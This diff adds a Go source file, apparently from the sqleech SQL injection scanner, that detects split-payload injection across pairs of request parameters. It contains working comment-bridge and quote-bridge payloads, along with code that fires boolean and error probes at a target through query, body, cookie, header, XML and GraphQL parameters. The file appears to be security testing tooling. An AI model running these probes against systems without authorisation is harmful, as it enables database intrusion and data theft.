@@ -0,0 +1,329 @@
+// Package crossparam implements split-payload SQL injection detection across
+// pairs of parameters.
+//
+// Some applications concatenate two parameters into a single SQL fragment,
+// e.g. WHERE name='<first>' AND city='<second>', while sanitising each one
+// differently (quotes escaped in one, comment characters or length limited in
+// the other). Neither parameter alone can carry a working payload, but a
+// payload split across both can:
+//
+//	first:  admin'/*
+//	second: */ AND 1=1-- -
+//
+// yields WHERE name='admin'/*' AND city='*/ AND 1=1-- -', where the block
+// comment swallows the SQL text between the two parameters.
+//
+// The search space is deliberately small: only pairs of parameters, only a
+// handful of bridge patterns, and only parameters that heuristics marked as
+// live but that no single-parameter technique confirmed.
+package crossparam
+
+import (
+	"context"
+	"fmt"
+	"net/url"
+
+	"github.com/0x6d61/sqleech/internal/dbms"
+	"github.com/0x6d61/sqleech/internal/detector"
+	"github.com/0x6d61/sqleech/internal/engine"
+	"github.com/0x6d61/sqleech/internal/graphql"
+	"github.com/0x6d61/sqleech/internal/rawquery"
+	"github.com/0x6d61/sqleech/internal/reqparam"
+	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/xmlbody"
+)
+
+const (
+	// MaxParameters caps how many candidate parameters are paired up.
+	// With 4 parameters there are at most 12 ordered pairs.
+	MaxParameters = 4
+
+	// probesPerPattern is the number of requests sent for one pattern on one
+	// pair: TRUE, FALSE, TRUE confirmation and the half-payload error probe.
+	probesPerPattern = 4
+
+	defaultThreshold = 0.95
+)
+
+// splitPattern is a payload split into two halves. The first half is
+// appended to the first parameter's original value; the second half replaces
+// the second parameter's value and contains a %s placeholder for the
+// boolean condition.
+type splitPattern struct {
+	name   string
+	first  string
+	second string
+	dbms   []string // DBMS the pattern applies to; empty means all
+}
+
+// splitPatterns is the curated set of comment-bridge and quote-bridge
+// patterns, ordered by likelihood.
+var splitPatterns = []splitPattern{
+	// Comment bridge: the first half closes the string and opens a block
+	// comment, the second half closes the comment and supplies the tail.
+	{name: "comment-bridge", first: "'/*", second: "*/ AND %s-- -"},
+	{name: "comment-bridge-dquote", first: "\"/*", second: "*/ AND %s-- -"},
+	{name: "comment-bridge-numeric", first: "/*", second: "*/ AND %s-- -"},
+
+	// Quote bridge: a trailing backslash escapes the closing quote of the
+	// first string so the second parameter lands outside any literal.
+	{name: "quote-bridge", first: "\\", second: " OR %s-- -", dbms: []string{"MySQL"}},
+}
+
+// Finding is a confirmed split-payload injection across two parameters.
+type Finding struct {
+	First         engine.Parameter
+	Second        engine.Parameter
+	FirstPayload  string
+	SecondPayload string
+	Pattern       string
+	Confidence    float64
+	Evidence      string
+}
+
+// Request contains everything needed to test parameter pairs.
+type Request struct {
+	Target     *engine.ScanTarget
+	Parameters []engine.Parameter // Live-but-unconfirmed candidates
+	DBMS       string
+	Client     transport.Client
+}
+
+// Detector tests pairs of parameters with split payloads.
+type Detector struct {
+	diffEngine *detector.DiffEngine
+	threshold  float64
+}
+
+// New creates a Detector with the default DiffEngine and threshold.
+func New() *Detector {
+	return &Detector{
+		diffEngine: detector.NewDiffEngine(),
+		threshold:  defaultThreshold,
+	}
+}
+
+// MaxRequests returns the upper bound on requests Detect sends for the given
+// number of candidate parameters and DBMS.
+func MaxRequests(paramCount int, dbmsName string) int {
+	if paramCount > MaxParameters {
+		paramCount = MaxParameters
+	}
+	if paramCount < 2 {
+		return 0
+	}
+	pairs := paramCount * (paramCount - 1)
+	return pairs * len(patternsFor(dbmsName)) * probesPerPattern
+}
+
+// Detect tries every ordered pair of candidate parameters against the split
+// patterns for the DBMS. A pair that is confirmed in one order is not
+// retried in the other.
+func (d *Detector) Detect(ctx context.Context, req *Request) ([]Finding, error) {
+	params := req.Parameters
+	if len(params) > MaxParameters {
+		params = params[:MaxParameters]
+	}
+	if len(params) < 2 {
+		return nil, nil
+	}
+
+	patterns := patternsFor(req.DBMS)
+	confirmed := make(map[[2]int]bool)
+	var findings []Finding
+
+	for i := range params {
+		for j := range params {
+			if i == j || confirmed[[2]int{j, i}] {
+				continue
+			}
+			if err := ctx.Err(); err != nil {
+				return findings, err
+			}
+
+			for _, p := range patterns {
+				f, ok := d.tryPattern(ctx, req, &params[i], &params[j], p)
+				if !ok {
+					continue
+				}
+				findings = append(findings, *f)
+				confirmed[[2]int{i, j}] = true
+				break
+			}
+		}
+	}
+
+	return findings, nil
+}
+
+// tryPattern evaluates one split pattern on one ordered pair using the
+// boolean oracle (TRUE/FALSE/TRUE) and the error oracle (first half alone
+// should break the query).
+func (d *Detector) tryPattern(ctx context.Context, req *Request, first, second *engine.Parameter, p splitPattern) (*Finding, bool) {
+	firstVal := first.Value + p.first
+	trueVal := fmt.Sprintf(p.second, "1=1")
+	falseVal := fmt.Sprintf(p.second, "1=2")
+
+	trueResp, err := d.send(ctx, req, first, firstVal, second, trueVal)
+	if err != nil || hasSQLError(trueResp) {
+		return nil, false
+	}
+
+	falseResp, err := d.send(ctx, req, first, firstVal, second, falseVal)
+	if err != nil || hasSQLError(falseResp) {
+		return nil, false
+	}
+	if d.diffEngine.ResponseRatio(trueResp, falseResp) >= d.threshold {
+		return nil, false
+	}
+
+	confirmResp, err := d.send(ctx, req, first, firstVal, second, trueVal)
+	if err != nil || d.diffEngine.ResponseRatio(trueResp, confirmResp) < d.threshold {
+		return nil, false
+	}
+
+	confidence := 0.70
+	evidence := fmt.Sprintf("%s: TRUE and FALSE tails in %q produce distinct pages", p.name, second.Name)
+
+	halfResp, err := d.send(ctx, req, first, firstVal, second, second.Value)
+	if err == nil && hasSQLError(halfResp) {
+		confidence = 0.85
+		evidence += fmt.Sprintf("; first half in %q alone raises a SQL error", first.Name)
+	}
+
+	return &Finding{
+		First:         *first,
+		Second:        *second,
+		FirstPayload:  firstVal,
+		SecondPayload: trueVal,
+		Pattern:       p.name,
+		Confidence:    confidence,
+		Evidence:      evidence,
+	}, true
+}
+
+// send issues a request with both parameters replaced.
+func (d *Detector) send(ctx context.Context, req *Request, first *engine.Parameter, firstVal string, second *engine.Parameter, secondVal string) (*transport.Response, error) {
+	probe := buildPairRequest(req.Target, first, firstVal, second, secondVal)
+	return req.Client.Do(ctx, probe)
+}
+
+// patternsFor returns the split patterns applicable to the DBMS; patterns
+// for MySQL apply to MariaDB too. Unknown DBMS gets every pattern.
+func patternsFor(dbmsName string) []splitPattern {
+	var out []splitPattern
+	family := dbms.Family(dbmsName)
+	for _, p := range splitPatterns {
+		if dbmsName == "" || len(p.dbms) == 0 {
+			out = append(out, p)
+			continue
+		}
+		for _, name := range p.dbms {
+			if name == family {
+				out = append(out, p)
+				break
+			}
+		}
+	}
+	return out
+}
+
+// hasSQLError reports whether the response contains any SQL error signature.
+func hasSQLError(resp *transport.Response) bool {
+	return len(detector.FindSQLErrors(resp.Body)) > 0
+}
+
+// buildPairRequest creates a transport.Request with two parameters replaced.
+func buildPairRequest(target *engine.ScanTarget, first *engine.Parameter, firstVal string, second *engine.Parameter, secondVal string) *transport.Request {
+	req := &transport.Request{
+		Method:      target.Method,
+		URL:         target.URL,
+		Body:        target.Body,
+		ContentType: target.ContentType,
+	}
+
+	if target.Headers != nil {
+		req.Headers = make(map[string]string, len(target.Headers))
+		for k, v := range target.Headers {
+			req.Headers[k] = v
+		}
+	}
+
+	if target.Cookies != nil {
+		req.Cookies = make(map[string]string, len(target.Cookies))
+		for k, v := range target.Cookies {
+			req.Cookies[k] = v
+		}
+	}
+
+	// Custom injection points are rendered together, as each rendering
+	// rewrites every part that has points.
+	custom := make(map[string]string)
+	for _, pv := range []struct {
+		param *engine.Parameter
+		value string
+	}{{first, firstVal}, {second, secondVal}} {
+		pv.value = pv.param.Encode(pv.value)
+		switch pv.param.Location {
+		case engine.LocationQuery:
+			req.URL = modifyQueryParam(req.URL, pv.param.Name, pv.value)
+		case engine.LocationBody:
+			req.Body = modifyBodyParam(req.Body, pv.param.Name, pv.value)
+		case engine.LocationPath:
+			req.URL = reqparam.SetPath(req.URL, pv.param.Name, pv.value)
+		case engine.LocationCookie:
+			req.Cookies = reqparam.SetCookie(req.Cookies, pv.param.Name, pv.value)
+		case engine.LocationHeader:
+			req.Headers = reqparam.SetHeader(req.Headers, pv.param.Name, pv.value)
+		case engine.LocationXML:
+			req.Body = modifyXMLParam(req.Body, pv.param.Name, pv.value, target.RawXML)
+		case engine.LocationGraphQL:
+			req.Body = modifyGraphQLParam(req.Body, pv.param.Name, pv.value)
+		case engine.LocationCustom:
+			custom[pv.param.Name] = pv.value
+		}
+	}
+	if len(custom) > 0 {
+		target.Markers.Apply(req, custom)
+	}
+
+	return req
+}
+
+// modifyQueryParam replaces the value of a named query parameter in the URL,
+// leaving the order and encoding of the other parameters as they were.
+func modifyQueryParam(rawURL, paramName, newValue string) string {
+	parsed, err := url.Parse(rawURL)
+	if err != nil {
+		return rawURL
+	}
+	parsed.RawQuery = rawquery.Set(parsed.RawQuery, paramName, newValue)
+	return parsed.String()
+}
+
+// modifyBodyParam replaces the value of a named parameter in a
+// application/x-www-form-urlencoded body, leaving the order and encoding
+// of the other parameters as they were.
+func modifyBodyParam(body, paramName, newValue string) string {
+	return rawquery.Set(body, paramName, newValue)
+}
+
+// modifyXMLParam replaces the text of the leaf element at path in an XML
+// body, leaving the body unchanged when there is none.
+func modifyXMLParam(body, path, newValue string, raw bool) string {
+	modified, err := xmlbody.Set(body, path, newValue, raw)
+	if err != nil {
+		return body
+	}
+	return modified
+}
+
+// modifyGraphQLParam sets the named variable of a GraphQL request body,
+// leaving the body unchanged when there is none.
+func modifyGraphQLParam(body, path, newValue string) string {
+	modified, err := graphql.Set(body, path, newValue)
+	if err != nil {
+		return body
+	}
+	return modified
+}